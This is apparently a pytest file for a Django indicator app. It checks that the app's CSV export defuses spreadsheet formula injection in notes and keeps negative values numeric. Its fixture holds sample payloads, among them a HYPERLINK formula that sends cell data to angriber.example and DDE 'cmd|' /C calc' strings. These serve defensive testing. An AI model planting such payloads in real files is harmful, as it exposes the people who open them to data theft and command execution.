"""An indicator's CSV download opens in a spreadsheet without running a formula from a note
(CSV/formula injection, issue 8, item 5); negative values stay numbers, the stored note is unchanged."""

import csv
import io

import pytest
from django.urls import reverse

from indikatorer import services
from indikatorer.models import Maaling

pytestmark = pytest.mark.django_db

NOTER = {
    "kommune-a": '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")',
    "kommune-b": "+cmd|' /C calc'!A0",
    "kommune-c": "@SUM(1+1)*cmd|' /C calc'!A0",
    "klynge-et": "-2+3+cmd|' /C calc'!A0",
    "klynge-to": "Opgjort efter ny metode",
}
FORMELTEGN = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def data(personas, indikatorer):
    """Values for the yearly ratio indicator, one negative, with formulas in the notes."""
    ud = io.StringIO()
    skriver = csv.writer(ud, delimiter=";", lineterminator="\r\n")
    skriver.writerow(["kode", "geografi", "periode", "vaerdi", "taeller", "naevner", "note"])
    skriver.writerow(["aarlig", "region-midtjylland", "2024", "-1,5", "", "", ""])
    for geografi, note in NOTER.items():
        skriver.writerow(["aarlig", geografi, "2024", "2,25", "", "", note])
    services.import_direkte(bruger=personas["sekretariat"], filnavn="noter.csv",
                            indhold=ud.getvalue().encode("utf-8-sig"))
    return indikatorer


def _raekker(client) -> list[dict]:
    svar = client.get(reverse("indikator-csv", args=["aarlig"]))
    assert svar.status_code == 200
    return list(csv.DictReader(io.StringIO(svar.content.decode("utf-8-sig")), delimiter=";"))


def test_no_text_cell_starts_like_a_formula(client, data):
    raekker = _raekker(client)
    assert len(raekker) == 1 + len(NOTER)
    for raekke in raekker:
        for felt, vaerdi in raekke.items():
            if felt != "vaerdi":  # a number the exporter formats (see below)
                assert not vaerdi.startswith(FORMELTEGN), (felt, vaerdi)


def test_the_notes_are_neutralised_with_a_quote(client, data):
    noter = {r["geografi"]: r["note"] for r in _raekker(client)}
    assert noter["kommune-a"] == "'" + NOTER["kommune-a"]
    assert noter["kommune-b"] == "'" + NOTER["kommune-b"]
    assert noter["kommune-c"] == "'" + NOTER["kommune-c"]
    assert noter["klynge-et"] == "'" + NOTER["klynge-et"]
    assert noter["klynge-to"] == NOTER["klynge-to"]


def test_a_negative_value_stays_a_number(client, data):
    vaerdier = {r["geografi"]: r["vaerdi"] for r in _raekker(client)}
    assert vaerdier["region-midtjylland"] == "-1,5"
    assert vaerdier["kommune-a"] == "2,25"


def test_the_stored_notes_keep_the_true_values(data):
    gemt = dict(Maaling.objects.gaeldende().filter(indikator=data["aarlig"], geografi_slug__in=NOTER)
                .values_list("geografi_slug", "note"))
    assert gemt == NOTER
